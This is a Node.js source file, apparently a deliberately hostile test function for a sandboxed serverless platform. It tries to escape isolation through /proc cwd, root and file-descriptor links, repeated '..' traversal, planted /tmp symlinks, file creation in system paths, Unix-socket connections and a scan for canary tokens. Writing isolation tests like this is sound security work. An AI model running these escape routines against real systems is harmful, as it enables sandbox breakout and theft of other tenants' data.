// A hostile nodejs function: the same routes out as attack.py, with what Node offers (no openat:
// a directory opened with fs.openSync and reached again as /proc/self/fd/<fd>/.. is the same
// lookup). It reports what it reached; the test judges on the host side. Targets are named by
// their index, never echoed.
'use strict';
const fs = require('fs');
const net = require('net');
const path = require('path');

const TOKEN = /HEARTHCANARY[0-9a-f]{32}/g;
const UP = 12;
const DEPTH = 3;
const SKIP = new Set(['proc', 'sys', 'usr', 'lib', 'lib32', 'lib64', 'libx32', 'bin', 'sbin', 'boot', 'snap',
  'run', 'etc', '.git', '.build', 'node_modules', '.venv', '__pycache__', 'share', 'include']);
const FILE_LIMIT = 16 << 20;
const BANNER = 'hearth-escape-attack';

class Attack {
  constructor(spec) {
    this.spec = spec;
    this.here = __dirname;
    this.seen = new Map();
    this.roots = [];
    this.scanned = new Set();
    this.files = new Set();
    this.tokens = new Set();
    this.held = [];
    this.budget = { entries: 3000, files: 200, bytes: 32 << 20 };
    this.deadline = Date.now() + 1000 * (spec.seconds || 20);
    this.report = { banner: BANNER, marker: spec.marker, pid: process.pid, ppid: process.ppid, attempts: 0, dirs: [],
      listed: {}, links: {}, read: {}, created: [], connected: {}, tokens: [] };
  }

  directory(route, label, top = true) {
    this.report.attempts += 1;
    let st;
    try { st = fs.statSync(route); } catch (e) { return false; }
    if (!st.isDirectory()) return false;
    const key = `${st.dev}:${st.ino}`;
    if (this.seen.has(key)) return true;
    this.seen.set(key, label || route);
    if (this.report.dirs.length < 1500) this.report.dirs.push(`dir:${key} ${label || route}`);
    if (top) this.roots.push([route, label || route]);
    return true;
  }

  climb(route, label) {
    for (let k = 0; k <= UP; k++) this.directory(route + '/..'.repeat(k), (label || route) + '/..'.repeat(k));
  }

  readFile(file) {
    if (this.budget.files <= 0 || this.budget.bytes <= 0) return null;
    let fd;
    try { fd = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK | fs.constants.O_NOCTTY); } catch (e) { return null; }
    try {
      const st = fs.fstatSync(fd);
      if (!st.isFile()) return null;
      const key = `${st.dev}:${st.ino}`;
      if (this.files.has(key)) {
        const head = Buffer.alloc(256);
        return head.subarray(0, fs.readSync(fd, head, 0, 256, 0));
      }
      this.files.add(key);
      this.budget.files -= 1;
      const size = Math.min(FILE_LIMIT, this.budget.bytes, Math.max(st.size, 1 << 16));
      const buffer = Buffer.alloc(size);
      let got = 0;
      while (got < size) {
        const n = fs.readSync(fd, buffer, got, size - got, null);
        if (n === 0) break;
        got += n;
      }
      const data = buffer.subarray(0, got);
      this.budget.bytes -= got;
      for (const match of data.toString('latin1').matchAll(TOKEN)) this.tokens.add(match[0]);
      return data;
    } catch (e) {
      return null;
    } finally {
      fs.closeSync(fd);
    }
  }

  scan(route, label, depth = 0) {
    if (Date.now() > this.deadline || this.budget.entries <= 0) return;
    let names;
    try { names = fs.readdirSync(route).sort(); } catch (e) { return; }
    if (depth === 0 && Object.keys(this.report.listed).length < 200) {
      this.report.listed[label] = names.slice(0, 100).concat(names.length > 100 ? [`…${names.length - 100} more`] : []);
    }
    for (const name of names) {
      if (this.budget.entries <= 0 || Date.now() > this.deadline) return;
      this.budget.entries -= 1;
      const file = `${route}/${name}`;
      let st;
      try { st = fs.lstatSync(file); } catch (e) { continue; }
      if (st.isFile() && st.size <= FILE_LIMIT) {
        this.readFile(file);
      } else if (st.isDirectory() && depth < DEPTH && !SKIP.has(name)) {
        const key = `${st.dev}:${st.ino}`;
        if (this.scanned.has(key)) continue;
        this.scanned.add(key);
        this.directory(file, `${label}/${name}`, false);
        this.scan(file, `${label}/${name}`, depth + 1);
      }
    }
  }

  links(directory) {
    let names;
    try { names = fs.readdirSync(directory).sort(); } catch (e) { return []; }
    return names.map((name) => {
      const link = `${directory}/${name}`;
      try { this.report.links[link] = fs.readlinkSync(link); } catch (e) { /* not a link */ }
      return link;
    });
  }

  * routes() {
    yield [this.here, '__dirname'];
    yield [path.dirname(require.resolve('./attack.js')), 'require.resolve dir'];
    yield ['.', 'cwd'];
    yield [process.cwd(), 'process.cwd()'];
    yield ['/', '/'];
    let pids = [];
    try { pids = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)); } catch (e) { /* no /proc */ }
    for (const pid of ['self', 'thread-self', ...pids]) {
      const base = `/proc/${pid}`;
      for (const what of ['cwd', 'root']) {
        try { this.report.links[`${base}/${what}`] = fs.readlinkSync(`${base}/${what}`); } catch (e) { /* hidden */ }
        yield [`${base}/${what}`, null];
      }
      for (const link of this.links(`${base}/fd`)) yield [link, null];
      let tasks = [];
      try { tasks = fs.readdirSync(`${base}/task`); } catch (e) { /* hidden */ }
      for (const tid of tasks) {
        for (const what of ['cwd', 'root']) yield [`${base}/task/${tid}/${what}`, null];
        for (const link of this.links(`${base}/task/${tid}/fd`)) yield [link, null];
      }
    }
    for (const made of this.symlinks()) yield made;
  }

  symlinks() {
    const made = [];
    const targets = [['through-code', `${this.here}/../../../..`], ['through-code-deep', this.here + '/..'.repeat(UP)],
      ['to-data-dir', this.spec.data_dir || '/nonexistent']];
    for (const [name, target] of targets) {
      const link = `/tmp/${BANNER}-js-${name}`;
      try {
        try { fs.unlinkSync(link); } catch (e) { /* none yet */ }
        fs.symlinkSync(target, link);
        made.push([link, `symlink ${name}`]);
      } catch (e) { /* refused */ }
    }
    return made;
  }

  chains() {
    const starts = [];
    for (const name of (() => { try { return fs.readdirSync('/proc/self/fd'); } catch (e) { return []; } })()) {
      try { if (fs.fstatSync(Number(name)).isDirectory()) starts.push([Number(name), `held fd ${name}`]); } catch (e) { /* gone */ }
    }
    for (const [dir, label] of [['.', 'open(.)'], [this.here, 'open(__dirname)'], ['/proc/self/cwd', 'open(/proc/self/cwd)'],
      ['/proc/self/root', 'open(/proc/self/root)'], ['/proc/1/cwd', 'open(/proc/1/cwd)'], ['/proc/1/root', 'open(/proc/1/root)']]) {
      try {
        const fd = fs.openSync(dir, fs.constants.O_RDONLY | fs.constants.O_DIRECTORY);
        this.held.push(fd);
        starts.push([fd, label]);
      } catch (e) { /* refused */ }
    }
    for (const [fd, label] of starts) {
      let current = fd;
      for (let k = 1; k <= UP; k++) {
        let up;
        try { up = fs.openSync(`/proc/self/fd/${current}/..`, fs.constants.O_RDONLY | fs.constants.O_DIRECTORY); } catch (e) { break; }
        this.held.push(up);
        this.directory(`/proc/self/fd/${up}`, `${label} open(fd/..)x${k}`);
        current = up;
      }
    }
    const original = process.cwd();
    for (const [fd, label] of starts) {
      try {
        process.chdir(`/proc/self/fd/${fd}`);
        for (let k = 1; k <= UP; k++) {
          process.chdir('..');
          const opened = fs.openSync('.', fs.constants.O_RDONLY | fs.constants.O_DIRECTORY);
          this.held.push(opened);
          this.directory(`/proc/self/fd/${opened}`, `${label} chdir(..)x${k}`);
        }
      } catch (e) { /* refused */ }
    }
    try { process.chdir(original); } catch (e) { process.chdir('/'); }
  }

  create(file, label) {
    this.report.attempts += 1;
    let fd;
    try { fd = fs.openSync(file, 'wx', 0o666); } catch (e) { return; }
    try { fs.writeSync(fd, this.spec.marker || BANNER); } finally { fs.closeSync(fd); }
    this.report.created.push(label);
  }

  connect(address, label) {
    this.report.attempts += 1;
    if (Buffer.byteLength(address) > 107) return Promise.resolve();
    return new Promise((resolve) => {
      let reply = Buffer.alloc(0);
      let connected = false;
      const socket = net.createConnection({ path: address });
      const done = () => {
        if (connected) {
          this.report.connected[label] = reply.subarray(0, 4000).toString('latin1');
          for (const match of reply.toString('latin1').matchAll(TOKEN)) this.tokens.add(match[0]);
        }
        socket.destroy();
        resolve();
      };
      const timer = setTimeout(done, 1000);
      socket.on('connect', () => {
        connected = true;
        socket.write(`GET /v1/functions?all_projects=true HTTP/1.0\r\nHost: hearth\r\n\r\n${this.spec.marker}\n`);
      });
      socket.on('data', (chunk) => { reply = Buffer.concat([reply, chunk]); });
      socket.on('error', () => { clearTimeout(timer); done(); });
      socket.on('close', () => { clearTimeout(timer); done(); });
    });
  }

  async targets(route, label) {
    if (Date.now() > this.deadline) return;
    (this.spec.read || []).forEach((target, i) => {
      const data = this.readFile(route + target);
      if (data !== null) this.report.read[`${label} + read[${i}]`] = data.subarray(0, 160).toString('latin1');
    });
    (this.spec.names || []).forEach((name, i) => {
      const data = this.readFile(`${route}/${name}`);
      if (data !== null) this.report.read[`${label} + names[${i}]`] = data.subarray(0, 160).toString('latin1');
    });
    (this.spec.create || []).forEach((target, i) => this.create(route + target, `${label} + create[${i}]`));
    if ((this.spec.connect || []).length) {
      let fd;
      try { fd = fs.openSync(route, fs.constants.O_RDONLY | fs.constants.O_DIRECTORY); } catch (e) { return; }
      try {
        await Promise.all(this.spec.connect.map((target, i) => this.connect(`/proc/self/fd/${fd}${target}`, `${label} + connect[${i}]`)));
      } finally {
        fs.closeSync(fd);
      }
    }
  }

  async direct() {
    const name = this.spec.name || BANNER;
    for (const file of [`${this.here}/${name}`, `./${name}`, `/${name}`, `/usr/${name}`, `/runtimes/${name}`, `/dev/${name}`,
      `/dev/shm/${name}`, `/var/tmp/${name}`, `/proc/${name}`, `/tmp/${name}`]) {
      this.create(file, `direct ${file.replace(name, '<name>')}`);
    }
    await Promise.all((this.spec.connect || []).map((target, i) => this.connect(target, `direct connect[${i}]`)));
    await Promise.all((this.spec.abstract || []).map((name2, i) => this.connect(`\0${name2}`, `abstract[${i}]`)));
  }

  async run() {
    try {
      for (const [route, label] of [...this.routes()]) this.climb(route, label);
      this.chains();
      await this.direct();
      for (const [route, label] of [...this.roots]) await this.targets(route, label);
      for (const [route, label] of [...this.roots]) this.scan(route, label);
    } finally {
      for (const fd of this.held) { try { fs.closeSync(fd); } catch (e) { /* closed */ } }
    }
    this.report.tokens = [...this.tokens].sort();
    this.report.distinct_dirs = this.seen.size;
    this.report.files_read = this.files.size;
    return this.report;
  }
}

exports.main = async (context, input) => {
  const report = await new Attack(input || {}).run();
  const short = {};
  for (const key of ['banner', 'marker', 'attempts', 'distinct_dirs', 'files_read', 'tokens', 'created', 'connected']) short[key] = report[key];
  console.log(JSON.stringify(short));
  return report;
};
